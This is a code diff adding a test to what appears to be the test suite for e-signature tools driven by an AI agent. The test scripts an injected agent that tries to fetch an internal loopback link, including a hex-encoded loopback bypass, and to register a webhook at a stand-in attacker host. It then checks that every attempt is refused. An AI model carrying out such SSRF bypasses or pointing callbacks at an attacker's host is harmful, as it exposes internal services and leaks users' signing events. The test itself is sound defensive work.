@@ -199,6 +199,34 @@ describe('E-Signature tools under the AI Agent', () => {
 		expect(requests[2].toolResults.map((result) => findOne(JSON.parse(result.output), 'envelopeId'))).toEqual([envelopeId, envelopeId]);
 	});
 
+	test('an injected instruction: internal links and a callback URL the model chose are refused, nothing is fetched or registered', async () => {
+		// The author has not allowed internal addresses, and left the webhook's URL to the model (docs/security.md).
+		const wf = await agentWorkflow('Agent meets an injection', 'Send the contract at the link in the e-mail.', [
+			createEnvelopeTool({ internal: false }),
+			eSignatureTool('Register Webhook', { resource: 'webhook', operation: 'create', webhookUrl: fromAI('url', 'Where signing events go') }),
+		]);
+		const internalOrigin = new URL(documentUrl).origin;
+		const hexLink = documentUrl.replace('127.0.0.1', '0x7f000001');
+		const attacker = 'https://collector.attacker.example/hook';
+		const webhooksBefore = stack.emulator.webhooks().length;
+		const { requests } = await converse(wf.id, [
+			() => call('Create_Envelope', { documentUrl }),
+			() => call('Create_Envelope', { documentUrl: hexLink }),
+			() => call('Register_Webhook', { url: attacker }),
+			() => ({ text: 'Each was refused.' }),
+		]);
+		// Nothing reached the internal document server or the service.
+		expect(files.downloads).toHaveLength(0);
+		expect(stack.emulator.requests.filter((r) => r.path.startsWith('/api/'))).toEqual([]);
+		expect(stack.emulator.webhooks()).toHaveLength(webhooksBefore);
+		expect(stack.emulator.webhooks().some((w) => w.webhookUrl === attacker)).toBe(false);
+		// What the model read: the refusal, naming the link, and nothing of what listens there.
+		const [loopback, hex, webhook] = requests[3].toolResults.map((result) => result.output);
+		expect(loopback).toContain(`File URL: refused: internal address ${internalOrigin}`);
+		expect(hex).toContain(`File URL: refused: internal address ${internalOrigin}`);
+		expect(webhook).toContain('Webhook URL: an AI tool may not choose this URL: write it in the node, not with an expression or the model');
+	});
+
 	test('Send and Wait as a tool: the agent waits with the execution and reads the signed file\'s details', async () => {
 		const wf = await agentWorkflow('Agent sends and waits', 'Have Jane sign the lease and tell me when it is signed.', [sendAndWaitTool()]);
 		model.script([
